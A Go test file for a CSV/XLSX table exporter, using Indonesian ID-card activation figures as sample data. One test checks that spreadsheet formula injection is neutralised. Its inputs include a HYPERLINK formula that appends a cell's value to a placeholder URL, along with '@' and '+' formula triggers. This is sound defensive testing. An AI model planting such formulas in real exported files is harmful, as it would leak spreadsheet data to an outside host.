package tabel

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestSameFigures: the CSV and the XLSX of a table hold the same cells,
// numbers as numbers.
func TestSameFigures(t *testing.T) {
	tb := Table{Title: "Target 2026 wajib KTP", Header: []string{"Kabupaten/kota", "Target", "Aktivasi", "% target"},
		Rows: [][]any{{"Kota Bengkulu", 84048, 1203, 1.4}, {"Kabupaten Kaur, \"selatan\"", 29763, 0, 0.0}}}
	var c, x bytes.Buffer
	if err := tb.WriteCSV(&c); err != nil {
		t.Fatal(err)
	}
	if err := tb.WriteXLSX(&x); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&c).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&x)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows(tb.Title)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || len(recs) != 3 {
		t.Fatalf("%d XLSX rows, %d CSV records, want 3", len(rows), len(recs))
	}
	for i := range recs {
		for j := range recs[i] {
			if rows[i][j] != recs[i][j] {
				t.Errorf("cell %d,%d: XLSX %q, CSV %q", i, j, rows[i][j], recs[i][j])
			}
		}
	}
	if typ, _ := f.GetCellType(tb.Title, "B2"); typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("the target is not a number cell: %v", typ)
	}
}

// TestCSVNoFormula: text a spreadsheet would run as a formula is written
// as text; numbers, negative ones too, stay numbers.
func TestCSVNoFormula(t *testing.T) {
	tb := Table{Title: "x", Header: []string{"a", "b", "c"}, Rows: [][]any{
		{`=HYPERLINK("https://x/?"&B2,"SK 12")`, "+1", -5}, {"@SUM(A1)", "SK 470/12", "-x"}}}
	var c bytes.Buffer
	if err := tb.WriteCSV(&c); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&c).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"a", "b", "c"}, {`'=HYPERLINK("https://x/?"&B2,"SK 12")`, "'+1", "-5"}, {"'@SUM(A1)", "SK 470/12", "'-x"}}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("cell %d,%d: %q, want %q", i, j, recs[i][j], want[i][j])
			}
		}
	}
}
